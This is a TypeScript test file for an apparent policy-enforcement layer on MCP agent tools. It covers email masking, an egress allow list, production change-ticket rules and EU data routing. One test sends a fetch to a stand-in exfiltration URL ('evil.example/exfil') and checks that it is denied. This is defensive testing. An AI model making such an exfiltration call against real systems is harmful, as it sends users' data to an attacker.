import { afterAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { defineTool } from '../../src/core/define.js';
import { policy } from '../../src/guards/policy.js';
import { createPalisade } from '../../src/palisade.js';
import { BUILTIN_RULES } from '../../src/policy/builtin.js';
import { compilePolicy } from '../../src/policy/compile.js';
import { loadPolicyFile } from '../../src/policy/load.js';
import { createMemoryStore } from '../../src/state/memory.js';
import { connectInMemory, codeOf, textOf, uuid } from '../helpers/fixtures.js';
import { agent, connect, policyRuntime } from './mcp-helpers.js';

const cleanup: (() => Promise<void>)[] = [];
afterAll(async () => { for (const c of cleanup.reverse()) await c(); });

describe('the seed policy.yaml through a real MCP client', () => {
  it('redact-email-by-default: emails are masked by the policy obligation even when the caller may see them', async () => {
    const { runtime } = await policyRuntime({ config: 'state: { backend: memory }\negress: { allow: [api.vendor.example] }\n' });
    cleanup.push(() => runtime.close());
    const c = await connect(runtime);
    cleanup.push(c.close);
    const r = await c.call('orders.export', { from: '2025-08-25', to: '2025-08-31', mask: [], limit: 5 });
    expect(r.isError).toBeFalsy();
    const rows = (r.structuredContent as { rows: { email: string; phone: string }[] }).rows;
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) {
      expect(row.email).toMatch(/^.\*\*\*@/);
      expect(row.phone).not.toMatch(/\*/); // the tool itself was asked not to mask: only the policy's field is masked
    }
    expect(textOf(r)).not.toMatch(/[a-z0-9._-]{2,}@example/i);
  });

  it('vendor-allow-list: egress to a domain off egress.allow is POLICY_DENY before any fetch', async () => {
    const { runtime } = await policyRuntime({ config: 'state: { backend: memory }\negress: { allow: [api.vendor.example] }\n' });
    cleanup.push(() => runtime.close());
    const c = await connect(runtime);
    cleanup.push(c.close);
    const r = await c.call('web.fetchSafe', { url: 'https://evil.example/exfil?d=1' });
    expect(codeOf(r)).toBe('POLICY_DENY');
    expect(textOf(r)).toBe('DENY: policy rule vendor-allow-list denies this call');
  });

  it('the prod ticket rule acts from policy, with the seed text; the ticket format is still validated', async () => {
    const { runtime } = await policyRuntime();
    cleanup.push(() => runtime.close());
    const c = await connect(runtime);
    cleanup.push(c.close);
    const no = await c.call('flag.set', { name: 'checkout_v2', env: 'prod', rolloutPct: 50, idemKey: uuid() });
    expect(codeOf(no)).toBe('TICKET_REQUIRED');
    expect(textOf(no)).toBe('DENY: prod change >10% requires change ticket');
    expect(codeOf(await c.call('flag.set', { name: 'checkout_v2', env: 'prod', rolloutPct: 50, ticket: '', idemKey: uuid() }))).toBe('INVALID_PARAMS');
    expect(codeOf(await c.call('flag.set', { name: 'checkout_v2', env: 'prod', rolloutPct: 50, ticket: 'nope', idemKey: uuid() }))).toBe('INVALID_PARAMS');
    const ok = await c.call('flag.set', { name: 'checkout_v2', env: 'prod', rolloutPct: 50, ticket: 'CHG-1234', idemKey: uuid() });
    expect(textOf(ok)).toMatch(/^OK: flag checkout_v2 in prod set to 50%/);
    expect(textOf(await c.call('flag.set', { name: 'checkout_v2', env: 'prod', rolloutPct: 10, idemKey: uuid() }))).toMatch(/^OK: /);
  });

  it('route-eu-personal-data: personal data of an EU subject is routed to eu-west; others are not', async () => {
    const probe = defineTool({
      name: 'probe.region', description: 'Reports the routed region', effect: 'read', scope: 'probe.read', data: ['pii'],
      input: { region: z.string().max(32).optional() },
      handler: async (_a, ctx) => ({ region: ctx.region }),
    });
    const store = createMemoryStore();
    const compiled = compilePolicy(loadPolicyFile('seed/policy.yaml'), { builtins: BUILTIN_RULES });
    const palisade = await createPalisade({ tools: [probe], store, env: {}, stages: { policy: policy({ policy: compiled, store }) } });
    const us = { ...agent, region: 'us-east', grants: ['probe.read'] };
    const c = await connectInMemory(palisade, us);
    cleanup.push(c.close);
    const region = async (args: Record<string, unknown>) => (await c.client.callTool({ name: 'probe.region', arguments: args })).structuredContent;
    expect(await region({})).toEqual({ region: 'us-east' });
    expect(await region({ region: 'eu-central' })).toEqual({ region: 'eu-west' });
    expect(await region({ region: 'EU' })).toEqual({ region: 'eu-west' });
  });
});
